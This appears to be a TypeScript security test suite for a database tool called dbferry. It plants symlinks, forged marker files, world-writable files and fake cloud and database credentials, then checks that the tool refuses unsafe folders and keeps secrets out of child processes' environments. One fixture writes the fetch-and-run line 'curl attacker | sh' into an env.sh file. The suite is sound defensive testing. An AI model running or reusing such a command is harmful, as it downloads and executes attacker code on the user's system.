import { spawn } from "node:child_process";
import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { createInterface } from "node:readline";
import { writePrivateFile } from "../../system/files";
import { claimFolder, emptySubfolder, MARKER } from "../../system/folders";
import type { Attack, AttackOutcome } from "../support/attack";
import { FORGERIES } from "./records";
import { updatesEnvironment } from "./update";
import { everyFile } from "./walk";

const root = resolve(__dirname, "../..");
const COMMAND = join(root, "cli/dist/main.js");

/** Values that must not be in any child's environment. */
export const PLANTED = {
  HW_SECRET_KEY: "planted-huawei-key",
  ALIBABA_CLOUD_ACCESS_KEY_SECRET: "planted-alibaba-key",
  TENCENTCLOUD_SECRET_KEY: "planted-tencent-key",
  AWS_SECRET_ACCESS_KEY: "planted-aws-key",
  GOOGLE_CREDENTIALS: "planted-google-key",
  PULUMI_CONFIG_PASSPHRASE: "planted-passphrase",
  PULUMI_ACCESS_TOKEN: "planted-pulumi-token",
  GITHUB_TOKEN: "planted-github-token",
  GITLAB_TOKEN: "planted-gitlab-token",
  DBFERRY_SOURCE_PASSWORD: "planted-source-password",
  MYSQL_PWD: "planted-mysql-password",
};

/** Each attack plants what an attacker, or an accident, would have left behind, and runs dbferry against it. */
export const ATTACKS: readonly Attack[] = [
  attack("a folder with somebody's work is named as the sandbox's", async (folder) => {
    mkdirSync(join(folder, "project/state"), { recursive: true });
    writeFileSync(join(folder, "project/state/precious.json"), "{}");
    return refusedUnchanged(folder, () => claimFolder(folder, "sandbox", "--folder"));
  }),
  attack("a folder with somebody's databases is named as the servers'", async (folder) => {
    mkdirSync(join(folder, "source/data"), { recursive: true });
    writeFileSync(join(folder, "source/data/ibdata1"), "rows");
    return refusedUnchanged(folder, () => claimFolder(folder, "sandbox servers", "--dir"));
  }),
  attack("an env.sh of mode 0666 lies in wait", async (folder) => {
    const file = join(folder, "env.sh");
    writeFileSync(file, "curl attacker | sh\n");
    chmodSync(file, 0o666);
    return refusedUnchanged(folder, () => claimFolder(folder, "sandbox", "--folder"));
  }),
  attack("a folder that others can write to", async (folder) => {
    chmodSync(folder, 0o777);
    return refusedUnchanged(folder, () => claimFolder(folder, "sandbox", "--folder"));
  }),
  attack("a link stands in the folder's place", async (folder) => {
    mkdirSync(join(folder, "elsewhere"));
    symlinkSync(join(folder, "elsewhere"), join(folder, "sandbox"));
    return refusedUnchanged(folder, () => claimFolder(join(folder, "sandbox"), "sandbox", "--folder"));
  }),
  ...(["link", "others can write it", "of another kind", "of a later version", "not JSON"] as const).map((how) =>
    attack(`the mark is forged: ${how}`, async (folder) => {
      const marker = join(folder, MARKER);
      const good = JSON.stringify({ dbferry: "sandbox", version: 1 });
      if (how === "link") {
        writeFileSync(join(folder, "real"), good);
        symlinkSync(join(folder, "real"), marker);
      } else if (how === "of another kind") writeFileSync(marker, good.replace("sandbox", "demo"), { mode: 0o600 });
      else if (how === "of a later version") writeFileSync(marker, good.replace("1", "2"), { mode: 0o600 });
      else writeFileSync(marker, how === "not JSON" ? "dbferry" : good, { mode: 0o600 });
      if (how === "others can write it") chmodSync(marker, 0o666);
      return refusedUnchanged(folder, () => claimFolder(folder, "sandbox", "--folder"));
    }),
  ),
  attack("a link inside the sandbox's folder leads to a state that is not its own", async (folder) => {
    const outside = join(folder, "outside");
    mkdirSync(outside);
    writeFileSync(join(outside, "state.json"), "{}");
    const own = join(folder, "own");
    claimFolder(own, "sandbox project");
    symlinkSync(outside, join(own, "state"));
    emptySubfolder(own, "state");
    const kept = existsSync(join(outside, "state.json"));
    return {
      held: kept,
      leaked: !kept,
      detail: kept ? "only the link was removed" : "the state behind the link is gone",
    };
  }),
  attack("the name of a report is a link", async (folder) => {
    const victim = join(folder, "victim");
    writeFileSync(victim, "mine");
    symlinkSync(victim, join(folder, "report.json"));
    return refusedUnchanged(folder, () => writePrivateFile(join(folder, "report.json"), "customers' rows"));
  }),
  attack("the name of a report is a file that everybody reads", async (folder) => {
    const file = join(folder, "report.json");
    writeFileSync(file, "old", { mode: 0o644 });
    chmodSync(file, 0o644);
    writePrivateFile(file, "customers' rows");
    const mode = lstatSync(file).mode & 0o777;
    return { held: mode === 0o600, leaked: mode !== 0o600, detail: `mode ${mode.toString(8)} after it was written` };
  }),
  attack("keys and passphrases in the environment of the sandbox's children", childEnvironments),
  attack("tokens and passwords of the job in the environment of an update's children", updatesEnvironment),
  ...FORGERIES,
];

function attack(name: string, inside: (folder: string) => Promise<AttackOutcome>): Attack {
  return {
    name,
    family: "files",
    async run() {
      const folder = mkdtempSync(join(tmpdir(), "dbferry-attack-"));
      try {
        return await inside(folder);
      } finally {
        rmSync(folder, { recursive: true, force: true });
      }
    },
  };
}

/** Held when it is refused and nothing below the folder was added, changed or removed. */
function refusedUnchanged(folder: string, work: () => void): AttackOutcome {
  const before = pictureOf(folder);
  let refusal: string | undefined;
  try {
    work();
  } catch (error) {
    refusal = (error as Error).message;
  }
  const leaked = pictureOf(folder) !== before;
  return { held: refusal !== undefined && !leaked, leaked, detail: refusal ?? "it was not refused" };
}

function pictureOf(folder: string): string {
  return JSON.stringify(everyFile(folder).map((path) => [path, lstatSync(path).mode, readFileSync(path, "utf8")]));
}

/** Starts a sandbox with keys in the environment, and reads the environment of every process that it started. */
async function childEnvironments(folder: string): Promise<AttackOutcome> {
  const args = [COMMAND, "sandbox", "--folder", join(folder, "sandbox"), "--data", "none"];
  const env = { ...process.env, ...PLANTED };
  const child = spawn(process.execPath, args, { env, stdio: ["ignore", "pipe", "inherit"] });
  try {
    await new Promise<void>((ready, failed) => {
      createInterface({ input: child.stdout! }).on("line", (line) => line.includes("the sandbox runs") && ready());
      child.once("exit", (code) => failed(new Error(`the sandbox ended with ${code}`)));
    });
    const below = descendantsOf(child.pid!);
    const found = below.flatMap((pid) => plantedIn(pid).map((name) => `${commandOf(pid)} has ${name}`));
    const started = below.map(commandOf).join(", ");
    // Fewer would mean that some were missed: the sandbox, two servers, the shell that watches them.
    const seen = below.length >= 4;
    return {
      held: seen && found.length === 0,
      leaked: found.length > 0,
      detail: found.join("; ") || `${seen ? "clean" : "too few were seen"}: ${started}`,
    };
  } finally {
    child.removeAllListeners("exit");
    const gone = new Promise((done) => child.once("exit", done));
    if (child.exitCode === null && child.kill("SIGTERM")) await gone;
  }
}

/** Names of planted variables, or variables with planted values, in a process's environment. */
export function plantedIn(pid: number): string[] {
  const text = readFileSync(`/proc/${pid}/environ`, "utf8");
  return Object.entries(PLANTED).flatMap(([name, value]) => (text.includes(value) ? [name] : []));
}

function descendantsOf(pid: number): number[] {
  const parents = new Map<number, number>();
  for (const name of readdirSync("/proc").filter((one) => /^\d+$/.test(one))) {
    try {
      const stat = readFileSync(`/proc/${name}/stat`, "utf8");
      parents.set(Number(name), Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1]));
    } catch {
      // It has exited in the meantime.
    }
  }
  const found = [pid];
  for (const one of found) for (const [child, parent] of parents) if (parent === one) found.push(child);
  return found.slice(1);
}

function commandOf(pid: number): string {
  const [program = "", script = ""] = readFileSync(`/proc/${pid}/cmdline`, "utf8").split("\0");
  return [program, script].map((one) => one.split("/").at(-1)).join(" ");
}
